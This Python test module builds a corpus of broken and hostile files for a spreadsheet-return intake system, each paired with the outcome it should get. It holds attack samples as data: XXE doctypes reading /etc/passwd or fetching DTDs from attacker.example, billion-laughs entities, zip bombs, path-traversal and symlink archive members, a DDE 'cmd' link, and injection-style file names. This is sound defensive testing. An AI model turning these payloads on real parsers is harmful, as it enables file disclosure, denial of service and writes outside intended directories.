"""The table of hostile and broken files: each with the outcome and the finding that it should have.

All are made from one good return, of a recipient whom no good file of the test belongs to: should a broken copy be
read after all, it can't take the place of somebody's answers.
"""

from __future__ import annotations

import base64
import io
import random
import struct
import zipfile
from collections.abc import Iterator
from dataclasses import dataclass, field
from email.message import EmailMessage

from tests.corpus import cfb
from tests.corpus.zips import added, deflated, edited, endless, members, path, raw_zip, xlsb, zipped

# What happened, and the finding that says so; several where a fault may show in more than one way.
Expected = tuple[frozenset[str], frozenset[str]]
READ = frozenset({"accepted", "superseded"})
ANY = frozenset({"accepted", "superseded", "held", "rejected", "passed over"})
FLIPS = 200
SHEET = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"


@dataclass(frozen=True)
class Case:
    """A file, and for each return that it gives (``""`` for the file itself) what is expected of it."""

    name: str
    content: bytes = field(repr=False)
    expected: dict[str, Expected]


def one(name: str, content: bytes, outcome: str | frozenset[str], *codes: str) -> Case:
    return Case(name, content, {"": said(outcome, *codes)})


def said(outcome: str | frozenset[str], *codes: str) -> Expected:
    return (frozenset({outcome}) if isinstance(outcome, str) else outcome, frozenset(codes))


def cases(good: bytes, csv_sheet: bytes, password: str) -> list[Case]:
    """Return all files."""
    made = [
        *broken(good),
        *truncated(good),
        *flipped(good),
        *bombs(good),
        *far_cells(good),
        *xml_attacks(good),
        *zip_attacks(good),
        *harmless(good),
        *names(good),
        *other_kinds(good, csv_sheet),
        *packages(good),
        *messages(good),
        *binary(good),
        *locked(good, password),
    ]
    assert len({case.name for case in made}) == len(made)
    return made


def broken(good: bytes) -> Iterator[Case]:
    yield one("broken/empty.xlsx", b"", "rejected", "file-empty")
    yield one("broken/one byte.xlsx", b"P", "held", "not-a-workbook")
    yield one("broken/zeros.xlsx", bytes(5000), "rejected", "file-unknown")
    yield one("broken/noise.xlsx", random.Random(1).randbytes(5000), "rejected", "file-unknown")
    yield one("broken/only a zip beginning.xlsx", b"PK\3\4" + bytes(100), "rejected", "file-damaged")
    yield one("broken/only an ole beginning.xls", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", "rejected", "file-damaged")
    noise = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + random.Random(2).randbytes(9000)
    yield one("broken/ole of noise.xls", noise, "rejected", "file-damaged")
    yield one("broken/no book.xlsx", edited(good, book=None), "rejected", "file-damaged")
    yield one("broken/no rels.xlsx", edited(good, rels=None), "rejected", "file-damaged")
    yield one("broken/no types.xlsx", edited(good, types=None), READ)
    yield one("broken/no sheet2.xlsx", edited(good, sheet2=None), "rejected", "file-damaged")
    yield one("broken/empty sheet.xlsx", edited(good, sheet3=b""), "rejected", "file-damaged")
    yield one("broken/sheet of noise.xlsx", edited(good, sheet3=b"\xff\xfe<<>>&&"), "rejected", "file-damaged")
    yield one("broken/book of text.xlsx", edited(good, book=b"hello"), "rejected", "file-damaged")
    yield one("broken/strings gone.xlsx", edited(good, strings=None), "rejected", "file-damaged")
    half = edited(good, sheet3=lambda data: data[: len(data) // 2])
    yield one("broken/half a sheet.xlsx", half, "rejected", "file-damaged")
    yield one("broken/twice.xlsx", good + good, READ)
    yield one("broken/text before.xlsx", b"MIME junk\r\n" + good, "rejected", "file-unknown")
    yield one("broken/text after.xlsx", good + b"\r\n--boundary--\r\n", READ)
    yield one("broken/much after.xlsx", good + bytes(70_000), "rejected", "file-damaged")


def truncated(good: bytes) -> Iterator[Case]:
    for share in range(5, 100, 5):
        yield one(f"cut/{share} percent.xlsx", good[: len(good) * share // 100], "rejected", "file-damaged")
    old = cfb.xls({"A": [["x" * 50, 1.0]] * 60})
    for share in range(20, 100, 20):
        yield one(f"cut/{share} percent.xls", old[: len(old) * share // 100], frozenset({"rejected", "held"}))


def flipped(good: bytes) -> Iterator[Case]:
    for seed in range(FLIPS):
        chance = random.Random(seed)
        data = bytearray(good)
        for _ in range(chance.choice((1, 1, 3, 20))):
            data[chance.randrange(len(data))] ^= 1 << chance.randrange(8)
        yield one(f"flips/{seed:03}.xlsx", bytes(data), ANY)


def bombs(good: bytes) -> Iterator[Case]:
    yield one("bombs/sheet of 4 GB.xlsx", _with_stream(good, endless(4096)), "rejected", "file-too-large")
    spaces = endless(4096, head=b'<?xml version="1.0"?>')
    yield one("bombs/strings of 4 GB.xlsx", _with_stream(good, spaces, "strings"), "rejected", "file-too-large")
    claimed = raw_zip([{"name": "xl/workbook.xml", "data": deflated(b"<workbook/>"), "full": 0xFFFFFFFE}])
    yield one("bombs/claims 4 GB.xlsx", claimed, "rejected", "file-damaged")
    big = zipped({f"{n}.xlsx": bytes(30_000_000) for n in range(3)})
    yield Case(
        "bombs/zeros.zip", big, {f"/{n}.xlsx": said("rejected", "file-unsafe") for n in range(3)}
    )
    inner = zipped({"0.txt": b"0" * 5_000_000})
    for _ in range(8):
        inner = zipped({"a.zip": inner, "b.zip": inner})
    yield Case("bombs/nested.zip", inner, {"*": said(frozenset({"rejected", "held"}))})
    quine = zipped({"again.zip": zipped({"again.zip": zipped({"again.zip": zipped({"deep.zip": _nest(9)})})})})
    yield Case("bombs/deep.zip", quine, {"*": said("rejected", "file-unsafe")})
    many = zipped({f"{n}.xlsx": b"" for n in range(10_000)}, zipfile.ZIP_STORED)
    yield one("bombs/10,000 members.zip", many, "rejected", "file-unsafe")
    parts = added(good, {f"xl/worksheets/extra{n}.xml": b"<x/>" for n in range(10_000)})
    yield one("bombs/10,000 parts.xlsx", parts, "rejected", "file-unsafe")
    files = zipped({f"{n}.txt": b"x" for n in range(2_500)}, zipfile.ZIP_STORED)
    yield Case("bombs/2,500 files.zip", files, {"*": said(frozenset({"rejected", "held"}))})
    yield one("bombs/overlapping.zip", _overlapping(), "rejected", "file-unsafe")
    text = "<si><t>a</t></si>" * 1_000_000
    strings = f'<sst xmlns="{SHEET}">{text}</sst>'.encode()
    yield one("bombs/1e6 strings.xlsx", edited(good, strings=strings), "rejected", "file-too-large", "file-unsafe")
    lie = f'<sst xmlns="{SHEET}" count="4294967295" uniqueCount="4294967295"><si><t>a</t></si></sst>'.encode()
    yield one("bombs/claims 4e9 strings.xlsx", edited(good, strings=lie), "rejected", "file-too-large")
    letters = base64.b64encode(random.Random(3).randbytes(1_500_000)).decode()
    last = members(good)[path("strings")].count(b"<si>")
    cells = "".join(f'<row r="{n}"><c r="A{n}" t="s"><v>{last}</v></c></row>' for n in range(1, 3001))
    long_one = f"<si><t>{letters}</t></si></sst>".encode()
    repeated = edited(good, strings=lambda d: d.replace(b"</sst>", long_one), sheet3=_sheet(cells))
    yield one("bombs/one long text 3,000 times.xlsx", repeated, "rejected", "reader-died", "reader-memory")
    row = b"<row>" + b"<c><v>1</v></c>" * 100 + b"</row>"
    wide = endless(200_000 * len(row) // 1024 // 1024, row * 600, _sheet_head())
    yield one("bombs/200,000 wide rows.xlsx", _with_stream(good, wide), "rejected", "file-too-large")
    media = added(good, {"xl/media/image1.png": bytes(40_000_000)})
    yield one("bombs/picture of zeros.xlsx", media, READ, "embedded-files")


def far_cells(good: bytes) -> Iterator[Case]:
    first, last = '<row r="1"><c r="A1"><v>1</v></c></row>', '<c r="XFD1048576"><v>1</v></c>'
    sheets = {
        "last cell": f'{first}<row r="1048576">{last}</row>',
        "last cell first": f'<row r="1048576">{last}</row>{first}',
        "lower case": f'{first}<row r="9"><c r="xfd1048576"><v>1</v></c></row>',
        "odd spelling": f"{first}<row r='9'><c  s=\"0\" r = 'XFD1048576'><v>1</v></c></row>",
        "with a prefix": f'{first}<x:row xmlns:x="{SHEET}" r="9"><x:c r="XFD1048576"><x:v>1</x:v></x:c></x:row>',
        "beyond the sheet": f'{first}<row r="9"><c r="ZZZZZ99999999"><v>1</v></c></row>',
        "no addresses": "<row><c><v>1</v></c></row>" + "<row/>" * 300_000 + "<row>" + "<c/>" * 9000 + "<c><v>1</v></c></row>",
        "typed as text": f'{first}<row r="9"><c r="XFD1048576" t="inlineStr"><is><t>x</t></is></c></row>',
        "wide and high": f'{first}<row r="9999"><c r="ZZ9999"><v>1</v></c></row>',
    }
    for name, rows in sheets.items():
        yield one(f"far/{name}.xlsx", edited(good, sheet3=_sheet(rows)), "rejected", "file-too-large")
    only = edited(good, sheet3=_sheet(f'<row r="1048576">{last}</row>'))
    yield one("far/only one.xlsx", only, "rejected", "file-too-large")
    empty = edited(
        good, sheet3=lambda d: d.replace(b"</sheetData>", b'<row r="1048576"><c r="XFD1048576" s="1"/></row></sheetData>')
    )
    yield one("far/formatted only.xlsx", empty, READ)
    claims = edited(good, sheet3=lambda d: d.replace(b"<sheetData>", b'<dimension ref="A1:XFD1048576"/><sheetData>'))
    yield one("far/dimension only.xlsx", claims, READ)
    broken = edited(good, sheet3=_sheet(f'{first}<row r="9"><c r="XFD1048576"><v>1</row>'))
    yield one("far/broken.xlsx", broken, "rejected", "file-damaged")


def xml_attacks(good: bytes) -> Iterator[Case]:
    laughs = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    doctypes = {
        "billion laughs": f'<!DOCTYPE x [<!ENTITY l0 "lol">{laughs}]>',
        "external entity": '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>',
        "external dtd": '<!DOCTYPE x SYSTEM "http://attacker.example/x.dtd">',
        "parameter entity": '<!DOCTYPE x [<!ENTITY % p SYSTEM "http://attacker.example/"> %p;]>',
        "empty doctype": "<!DOCTYPE x>",
        "lower case": "<!doctype x>",
        "entity alone": '<!ENTITY a "b">',
        "quadratic": f'<!DOCTYPE x [<!ENTITY q "{"q" * 50_000}">]>',
    }
    for name, doctype in doctypes.items():
        for part in ("sheet3", "strings", "book"):
            data = edited(good, **{part: lambda d, t=doctype: _prefixed(d, t.encode())})
            yield one(f"xml/{name} in {part}.xlsx", data, "rejected", "file-unsafe")
    for encoding in ("utf-16", "utf-16-le", "utf-32"):
        text = f'<?xml version="1.0" encoding="{encoding}"?>{doctypes["external entity"]}<worksheet/>'
        data = edited(good, sheet3=text.encode(encoding))
        yield one(f"xml/doctype in {encoding}.xlsx", data, "rejected", "file-unsafe")
    ebcdic = b'<?xml version="1.0" encoding="cp037"?>' + doctypes["external entity"].encode("cp037")
    yield one("xml/doctype in ebcdic.xlsx", edited(good, sheet3=ebcdic), "rejected", "file-unsafe")
    utf7 = edited(good, sheet3=b'<?xml version="1.0" encoding="utf-7"?>+ADwAIQ-DOCTYPE x+AD4-<worksheet/>')
    yield one("xml/doctype in utf-7.xlsx", utf7, "rejected", "file-unsafe")
    rels = edited(good, rels=lambda d: _prefixed(d, doctypes["external dtd"].encode()))
    yield one("xml/doctype in rels.xlsx", rels, "rejected", "file-unsafe")
    deep = "<a>" * 100_000 + "</a>" * 100_000
    yield one("xml/deep.xlsx", edited(good, sheet3=_sheet("", deep)), ANY)
    in_row = '<row r="1"><c r="A1" t="e"><v>#REF!</v></c></row>'
    yield one("xml/deep with error.xlsx", edited(good, sheet3=_sheet(in_row, deep)), "rejected", "file-unsafe")
    unclosed = edited(good, sheet3=_sheet('<row r="1"><c r="A1" t="e">' + "<v>" * 300_000))
    yield one("xml/unclosed.xlsx", unclosed, "rejected", "file-unsafe", "file-damaged")
    control = edited(good, sheet3=_sheet('<row r="1"><c r="A1" t="inlineStr"><is><t>\x01\x1b[31m</t></is></c></row>'))
    yield one("xml/control characters.xlsx", control, ANY)
    halves = "<row r=\"1\"><c r=\"A1\" t=\"inlineStr\"><is><t>&#xD800; \ud83d</t></is></c></row>"
    yield one("xml/half characters.xlsx", edited(good, sheet3=_sheet(halves)), ANY)
    zeros = edited(good, sheet3=lambda d: d.replace(b"<sheetData>", b"<sheetData>\0"))
    yield one("xml/zero byte.xlsx", zeros, "rejected", "file-unsafe")
    comment = edited(good, sheet3=lambda d: d.replace(b"<sheetData>", b"<!-- <!DOCTYPE x> --><sheetData>"))
    yield one("xml/doctype in a comment.xlsx", comment, "rejected", "file-unsafe")
    attribute = " ".join(f'a{n}="{n}"' for n in range(100_000))
    many = edited(good, sheet3=_sheet(f'<row r="1"><c r="A1" {attribute}><v>1</v></c></row>'))
    yield one("xml/100,000 attributes.xlsx", many, ANY)


def zip_attacks(good: bytes) -> Iterator[Case]:
    outside = {
        "up": "../../../evil.xlsx",
        "up, Windows": "..\\..\\evil.xlsx",
        "root": "/etc/cron.d/evil.xlsx",
        "drive": "C:\\Windows\\evil.xlsx",
        "share": "\\\\server\\share\\evil.xlsx",
        "device": "CON",
        "dots": "a/./b/../../evil.xlsx",
    }
    for name, member in outside.items():
        shown = {"root": "etc/cron.d/evil.xlsx", "drive": "Windows/evil.xlsx", "device": "CON"}.get(name)
        shown = shown or {"share": "server/share/evil.xlsx", "dots": "a/b/evil.xlsx"}.get(name, "evil.xlsx")
        content = raw_zip([_entry(member, good)])
        yield Case(f"zips/{name}.zip", content, {f"/{shown}": said(READ)})
    yield one("zips/up.xlsx", added(good, {"../evil.xml": b"<x/>"}), "rejected", "file-unsafe")
    doubled = [_entry(name, data) for name, data in members(good).items()]
    doubled.append(_entry("xl/worksheets/sheet3.xml", b"<other/>"))
    yield one("zips/part twice.xlsx", raw_zip(doubled), "rejected", "file-unsafe")
    upper = [*doubled[:-1], _entry("XL/Worksheets/Sheet3.xml", b"<other/>")]
    yield one("zips/part twice, other case.xlsx", raw_zip(upper), "rejected", "file-unsafe")
    link = _entry("link.xlsx", b"/etc/passwd") | {"mode": 0o120777}
    yield Case("zips/link.zip", raw_zip([link]), {"/link.xlsx": said("held", "file-link")})
    yield one("zips/link part.xlsx", raw_zip([*doubled[:-1], link]), "rejected", "file-unsafe")
    twice = raw_zip([_entry("a.xlsx", good), _entry("a.xlsx", good)])
    yield Case("zips/same name.zip", twice, {"/a.xlsx": said(READ), "/a.xlsx (2)": said("superseded")})
    locked = raw_zip([_entry("a.xlsx", good) | {"flags": 0x801}])
    yield Case("zips/locked.zip", locked, {"/a.xlsx": said("rejected", "file-password")})
    for name, changed in {
        "wrong checksum": {"crc": 1},
        "unknown method": {"method": 99},
        "bzip2": {"method": 12},
        "longer than the file": {"packed": 9_999_999},
        "shorter": {"packed": 100},
        "not deflated": {"data": b"\xff" * 500},
    }.items():
        codes = "file-damaged"
        content = raw_zip([_entry("a.xlsx", good) | changed])
        yield Case(f"zips/{name}.zip", content, {"/a.xlsx": said("rejected", codes)})
    elsewhere = raw_zip([_entry("a.xlsx", good) | {"where": 10_000_000, "packed": 10}])
    yield one("zips/starts outside.zip", elsewhere, "rejected", "file-unknown")
    outside_too = raw_zip([_entry("b.xlsx", good), _entry("a.xlsx", good) | {"where": 10_000_000, "packed": 10}])
    expected = {"/a.xlsx": said("rejected", "file-damaged"), "/b.xlsx": said(READ)}
    yield Case("zips/one starts outside.zip", outside_too, expected)
    count = bytearray(zipped({"a.xlsx": good}))
    count[-12:-8] = struct.pack("<I", 0xFFFFFF)
    yield one("zips/index too large.zip", bytes(count), "rejected", "file-damaged")
    yield one("zips/empty.zip", zipped({}), "rejected", "package-empty")
    yield one("zips/only folders.zip", raw_zip([_entry("a/", b"")]), "rejected", "package-empty")
    long_name = "n" * 60_000 + ".xlsx"
    shown = f"/{'n' * 89}…{'n' * 25}.xlsx"
    yield Case("zips/long name.zip", raw_zip([_entry(long_name, good)]), {shown: said(READ)})
    bidi = raw_zip([_entry("a\u202exslx.exe\n\x1b[2J.xlsx", good)])
    yield Case("zips/misleading name.zip", bidi, {"/a_xslx.exe__[2J.xlsx": said(READ)})


def harmless(good: bytes) -> Iterator[Case]:
    """Files that are read, with a note of what is in them."""
    contained = {
        "macros": ({"xl/vbaProject.bin": b"Sub AutoOpen()"}, "has-macros"),
        "old macros": ({"xl/macrosheets/sheet1.xml": b"<macro/>"}, "has-macros"),
        "external link": ({"xl/externalLinks/externalLink1.xml": b"<externalLink/>"}, "has-links"),
        "connection": ({"xl/connections.xml": b"<connections/>"}, "has-links"),
        "dde": ({"xl/externalLinks/externalLink1.xml": b'<externalLink><ddeLink ddeService="cmd"/></externalLink>'}, "has-dde"),
        "control": ({"xl/activeX/activeX1.bin": b"x"}, "has-controls"),
        "embedded": ({"xl/embeddings/oleObject1.bin": b"MZ"}, "embedded-files"),
        "picture": ({"xl/media/image1.png": b"\x89PNG"}, "embedded-files"),
    }
    for name, (files, code) in contained.items():
        yield one(f"contains/{name}.xlsm", added(good, files), READ, code)
    styles = edited(good, core=None)
    yield one("contains/no properties.xlsx", styles, READ)
    stored = zipped(members(good), zipfile.ZIP_STORED)
    yield one("contains/not compressed.xlsx", stored, READ)


def names(good: bytes) -> Iterator[Case]:
    for name in (
        "Copy of Return (1).xlsx",
        "no extension",
        "return.pdf",
        "return.docx",
        "return.txt",
        "RETURN.XLSX",
        "return.xlsx.xlsx",
        "مدرسة.xlsx",
        "בית ספר.xlsx",
        "🏫📋.xlsx",
        "e\u0301cole.xlsx",
        "-rf.xlsx",
        "=cmd|' A0.xlsx",
        "%s%n.xlsx",
        "{file}.xlsx",
        "a&b<c>.xlsx",
        "'; DROP TABLE.xlsx",
        " spaces .xlsx",
        "x" * 200 + ".xlsx",
    ):
        yield one(f"names/{name}", good, READ)
    for name in ("line\nbreak.xlsx", "tab\there.xlsx", "\x1b[31mred.xlsx", "gpj\u202excod.xlsx", "zero\u200bwidth.xlsx"):
        yield one(f"names/{name}", good, READ)
    for name in ("~$Return.xlsx", ".~lock.Return.xlsx#", "~WRL0001.tmp", "Return.tmp", "x.crdownload", ".hidden.xlsx"):
        yield one(f"left/{name}", good, "passed over", "passed-over")
    for name in (".DS_Store", "Thumbs.db", "desktop.ini", "._Return.xlsx"):
        yield one(f"left/{name}", b"\0\5\x16\7" + bytes(50), "passed over", "passed-over")


def other_kinds(good: bytes, csv_sheet: bytes) -> Iterator[Case]:
    kinds = {
        "scan.pdf": b"%PDF-1.7\n%%EOF\n",
        "pdf as.xlsx": b"%PDF-1.7\n%%EOF\n",
        "letter.rtf": b"{\\rtf1 hello}",
        "photo.jpg": b"\xff\xd8\xff\xe0\0\x10JFIF",
        "photo.png": b"\x89PNG\r\n\x1a\n",
        "photo.gif": b"GIF89a",
        "photo.heic": b"\0\0\0\x18ftypheic",
        "fax.tif": b"II*\0\x08\0\0\0",
        "page.xls": b"<html><body><table><tr><td>Rating</td></tr></table></body></html>",
        "page.htm": b"\xef\xbb\xbf\n<!DOCTYPE html><html>",
        "notes.txt": b"Dear Harriet, our answers are as follows.",
        "notes16.txt": "Dear Harriet".encode("utf-16"),
        "table.csv": b"Name,Answer\r\nLead,Jo\r\n",
        "old.doc": cfb.cfb({"WordDocument": b"x" * 5000}),
        "old.ppt": cfb.cfb({"PowerPoint Document": b"x" * 5000}),
        "strange.ole": cfb.cfb({"Whatever": b"x" * 5000}),
        "letter.docx": zipped({"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<w/>"}),
        "slides.pptx": zipped({"ppt/presentation.xml": b"<p/>"}),
        "sheet.numbers": zipped({"Index/Document.iwa": b"x", "preview.jpg": b"\xff\xd8\xff"}),
        "text.odt": zipped({"mimetype": b"application/vnd.oasis.opendocument.text"}, zipfile.ZIP_STORED),
        "returns.rar": b"Rar!\x1a\x07\x00",
        "returns.7z": b"7z\xbc\xaf\x27\x1c\0\4",
        "returns.tar.gz": b"\x1f\x8b\x08\0\0\0\0\0",
        "winmail.dat": b"\x78\x9f\x3e\x22" + bytes(40),
    }
    for name, content in kinds.items():
        yield one(f"kinds/{name}", content, "held", "not-a-workbook")
    yield one("kinds/return.lnk", b"\x4c\0\0\0\x01\x14\x02\0" + bytes(60), "held", "file-link")
    yield one("kinds/return.url", b"[InternetShortcut]\r\nURL=https://x.example/\r\n", "held", "file-link")
    yield one("kinds/program.exe", b"MZ\x90\0\3\0\0\0", "rejected", "file-unknown")
    text = csv_sheet.decode()
    for name, content in {
        "sheet.csv": csv_sheet,
        "sheet, mark.csv": b"\xef\xbb\xbf" + csv_sheet,
        "sheet, windows.csv": text.replace("Leadership", "Leadership – é").encode("cp1252", "replace"),
        "sheet, unicode.txt": text.replace(",", "\t").encode("utf-16"),
        "sheet, semicolons.csv": text.replace(",", ";").encode(),
        "sheet.tsv": text.replace(",", "\t").encode(),
        "sheet as.xlsx": csv_sheet,
    }.items():
        yield one(f"kinds/{name}", content, "held", "identity-missing")
    quotes = csv_sheet + b'\r\n"never closed'
    yield one("kinds/sheet, quotes.csv", quotes, "rejected", "file-damaged")
    wide = csv_sheet + b"," * 3_000_000
    yield one("kinds/sheet, wide.csv", wide, "rejected", "file-too-large")


def packages(good: bytes) -> Iterator[Case]:
    pdf = b"%PDF-1.7\n"
    yield Case(
        "packages/with evidence.zip",
        zipped({"Return.xlsx": good, "evidence/policy.pdf": pdf, "__MACOSX/._Return.xlsx": b"x"}),
        {
            "/Return.xlsx": said(READ),
            "/evidence/policy.pdf": said("passed over", "companion"),
            "/__MACOSX/._Return.xlsx": said("passed over", "passed-over"),
        },
    )
    yield Case(
        "packages/several.zip",
        zipped({"a.xlsx": good, "b.xlsx": good, "scan.pdf": pdf, "empty.xlsx": b""}),
        {
            "/a.xlsx": said(READ),
            "/b.xlsx": said("superseded"),
            "/scan.pdf": said("held", "not-a-workbook"),
            "/empty.xlsx": said("rejected", "file-empty"),
        },
    )
    yield Case(
        "packages/nested.zip",
        zipped({"inner.zip": zipped({"more.zip": zipped({"a.xlsx": good})})}),
        {"/inner.zip/more.zip/a.xlsx": said(READ)},
    )
    yield Case("packages/scan.zip", zipped({"scan.pdf": pdf}), {"/scan.pdf": said("held", "not-a-workbook")})
    yield Case("packages/junk.zip", zipped({".DS_Store": b"x"}), {"*": said(frozenset({"rejected", "passed over"}))})
    yield Case("packages/no name", zipped({"Return.xlsx": good}), {"/Return.xlsx": said(READ)})
    holds_bad = zipped({"a.xlsx": good[:500], "b.xlsx": good})
    yield Case(
        "packages/one bad.zip", holds_bad, {"/a.xlsx": said("rejected", "file-damaged"), "/b.xlsx": said(READ)}
    )


def messages(good: bytes) -> Iterator[Case]:
    plain = _mail("Please find it attached.", {"Return.xlsx": good, "scan.pdf": b"%PDF-1.7", "logo.png": b"\x89PNG"})
    both = {
        "/Return.xlsx": said(READ),
        "/scan.pdf": said("passed over", "companion"),
        "/logo.png": said("passed over", "companion"),
    }
    yield Case("mail/return.eml", bytes(plain), both)
    yield Case("mail/return.txt", bytes(plain), both)
    yield one("mail/only text.eml", bytes(_mail("GOV-1 is green.", {})), "held", "email-text")
    yield one("mail/nothing.eml", bytes(_mail("", {})), "rejected", "package-empty")
    scan = bytes(_mail("Attached.", {"scan.pdf": b"%PDF-1.7"}))
    yield Case("mail/scan.eml", scan, {"/scan.pdf": said("held", "not-a-workbook")})
    signature = _mail("Best wishes", {})
    signature.add_attachment(b"\x89PNG", maintype="image", subtype="png", filename="logo.png", cid="<logo@x>")
    yield Case(
        "mail/signature.eml",
        bytes(signature),
        {"": said("held", "email-text"), "/logo.png": said("passed over", "passed-over")},
    )
    forwarded = _mail("See below.", {})
    forwarded.add_attachment(plain)
    yield Case("mail/forwarded.eml", bytes(forwarded), {f"/Our return{k}": v for k, v in both.items()})
    original = _mail("Here it is", {"Return.xlsx": good})
    original.add_attachment(_mail("Could you send it?", {}))
    yield Case(
        "mail/with the question.eml",
        bytes(original),
        {"/Return.xlsx": said(READ), "/Our return": said("passed over", "companion")},
    )
    named = _mail("x", {"../../R\u202e\u00fcck\ngabe.xlsx": good})
    yield Case("mail/odd name.eml", bytes(named), {"*": said(READ)})
    yield Case("mail/zip.eml", bytes(_mail("x", {"r.zip": zipped({"a.xlsx": good})})), {"/r.zip/a.xlsx": said(READ)})
    deep = _mail("x", {"Return.xlsx": good})
    for _ in range(12):
        outer = _mail("x", {})
        outer.add_attachment(deep)
        deep = outer
    yield one("mail/deep.eml", bytes(deep), "rejected", "file-unsafe")
    head = b"From: a@b.example\r\nMIME-Version: 1.0\r\nSubject: x\r\n"
    parts = b"".join(b"Content-Type: multipart/mixed; boundary=%d\r\n\r\n--%d\r\n" % (n, n) for n in range(3000))
    yield one("mail/many boundaries.eml", head + parts, "rejected", "file-unsafe")
    yield one("mail/headers only.eml", head + b"\r\n", "rejected", "package-empty")
    wrong = head + b'Content-Type: application/x; name="a.xlsx"\r\nContent-Transfer-Encoding: base64\r\n\r\n!!!!'
    yield Case("mail/not base64.eml", wrong, {"*": said(frozenset({"held", "rejected"}))})
    yield Case(
        "mail/return.msg",
        cfb.msg(attached={"Return.xlsx": good, "scan.pdf": b"%PDF-1.7"}),
        {"/Return.xlsx": said(READ), "/scan.pdf": said("passed over", "companion")},
    )
    yield one("mail/only text.msg", cfb.msg(), "held", "email-text")
    yield one("mail/nothing.msg", cfb.msg(body=""), "rejected", "package-empty")
    inner = cfb.message("Inner: one/two", attached={"Return.xlsx": good}, within=True)
    yield Case("mail/forwarded.msg", cfb.msg(attached={"x": inner}), {"/Inner: one_two/Return.xlsx": said(READ)})
    nested: cfb.Tree = cfb.message("in", attached={"a.xlsx": good}, within=True)
    for _ in range(12):
        nested = cfb.message("in", attached={"x": nested}, within=True)
    yield one("mail/deep.msg", cfb.msg(attached={"x": nested}), "rejected", "file-unsafe")
    whole = cfb.msg(attached={"Return.xlsx": good})
    yield one("mail/cut off.msg", whole[: len(whole) // 2], "rejected", "file-damaged", "file-unsafe")
    yield one("mail/no properties.msg", cfb.cfb({"__properties_version1.0": b"x"}), "rejected", "package-empty", "file-damaged")


def binary(good: bytes) -> Iterator[Case]:
    rows: list[list[object]] = [["a", 1.0], ["b", 2.0]]
    yield one("binary/strange.xls", cfb.xls({"A": rows}), "held", "identity-missing")
    macro = cfb.xls({"A": rows}, {"_VBA_PROJECT_CUR": {"VBA": b"x"}, "MBD0001": {"x": b"x"}})
    yield one("binary/macros.xls", macro, "held", "identity-missing", "has-macros")
    cell = struct.pack("<HHHHHd", 0x0203, 14, 65535, 65535, 0, 1.0)
    far = cfb.cfb({"Workbook": cfb.biff({"A": rows}, cell)})
    yield one("binary/far.xls", far, "rejected", "file-too-large")
    yield one("binary/empty stream.xls", cfb.cfb({"Workbook": b""}), "rejected", "file-damaged")
    noise = random.Random(4).randbytes(6000)
    yield one("binary/noise.xls", cfb.cfb({"Workbook": noise}), "rejected")
    yield one("binary/strange.xlsb", xlsb({"A": rows}), "held", "identity-missing")
    row = b"\0\x19" + struct.pack("<IIHBBBI", 1_048_575, 0, 300, 0, 0, 0, 0) + bytes(8)
    far_cell = row + b"\5\x10" + struct.pack("<IId", 16_383, 0, 1.0)
    yield one("binary/far.xlsb", xlsb({"A": rows}, far_cell), "rejected", "file-too-large")
    parts = members(xlsb({"A": rows}))
    parts["xl/worksheets/sheet1.bin"] = noise
    yield one("binary/noise.xlsb", zipped(parts), frozenset({"rejected", "held"}))
    for name, table in {
        "strange": '<table:table-row><table:table-cell office:value-type="string"><text:p>x</text:p></table:table-cell></table:table-row>',
    }.items():
        yield one(f"binary/{name}.ods", ods(table), "held", "identity-missing")
    many = '<table:table-row table:number-rows-repeated="1048576"><table:table-cell table:number-columns-repeated="16384" office:value-type="float" office:value="1"/></table:table-row>'
    yield one("binary/repeated.ods", ods(many), "rejected", "file-too-large")
    blank = '<table:table-row table:number-rows-repeated="1048576"><table:table-cell table:number-columns-repeated="16384"/></table:table-row>'
    yield one("binary/blank.ods", ods(blank), "held", "identity-missing")
    deep = "<table:table-row><table:table-cell>" + "<text:p>" * 5000 + "</text:p>" * 5000 + "</table:table-cell></table:table-row>"
    yield one("binary/deep.ods", ods(deep), "rejected", "file-unsafe")
    doctype = ods(blank, '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>')
    yield one("binary/doctype.ods", doctype, "rejected", "file-unsafe")
    yield one("binary/broken.ods", ods("<table:table-row>"), "rejected", "file-damaged")


def locked(good: bytes, password: str) -> Iterator[Case]:
    from msoffcrypto.format.ooxml import OOXMLFile

    for name, key, expected in (
        ("known", password, said(READ)),
        ("unknown", "another one", said("rejected", "file-password")),
        ("excel's own", "VelvetSweatshop", said(READ)),
    ):
        target = io.BytesIO()
        OOXMLFile(io.BytesIO(good)).encrypt(key, target)
        yield Case(f"locked/{name}.xlsx", target.getvalue(), {"": expected})
    spins = target.getvalue().replace(b'spinCount="100000"', b'spinCount="999999999"'[:18] + b'"')
    slow = cfb.cfb({"EncryptedPackage": b"x" * 5000, "EncryptionInfo": b'spinCount="4000000000"'})
    yield one("locked/slow.xlsx", slow, "rejected", "file-unsafe")
    nothing = cfb.cfb({"EncryptedPackage": b"x" * 5000, "EncryptionInfo": b"\4\0\4\0\x40\0\0\0<x/>"})
    yield one("locked/broken.xlsx", nothing, "rejected", "file-damaged", "file-password")
    yield one("locked/cut off.xlsx", spins[: len(spins) // 3], "rejected", "file-damaged", "file-password", "file-unsafe")


def ods(rows: str, prologue: str = "") -> bytes:
    spaces = " ".join(
        f'xmlns:{name}="urn:oasis:names:tc:opendocument:xmlns:{name}:1.0"' for name in ("office", "table", "text")
    )
    content = (
        f'<?xml version="1.0" encoding="UTF-8"?>{prologue}<office:document-content {spaces}><office:body>'
        f'<office:spreadsheet><table:table table:name="A">{rows}</table:table></office:spreadsheet>'
        "</office:body></office:document-content>"
    )
    kind = b"application/vnd.oasis.opendocument.spreadsheet"
    return zipped({"mimetype": kind, "content.xml": content.encode()}, zipfile.ZIP_STORED)


def _sheet_head() -> bytes:
    return f'<?xml version="1.0"?><worksheet xmlns="{SHEET}"><sheetData>'.encode()


def _sheet(rows: str, after: str = "") -> bytes:
    return _sheet_head() + f"{rows}</sheetData>{after}</worksheet>".encode("utf-8", "surrogatepass")


def _prefixed(data: bytes, doctype: bytes) -> bytes:
    end = data.index(b"?>") + 2
    return data[:end] + doctype + data[end:]


def _entry(name: str, data: bytes) -> dict:
    import zlib

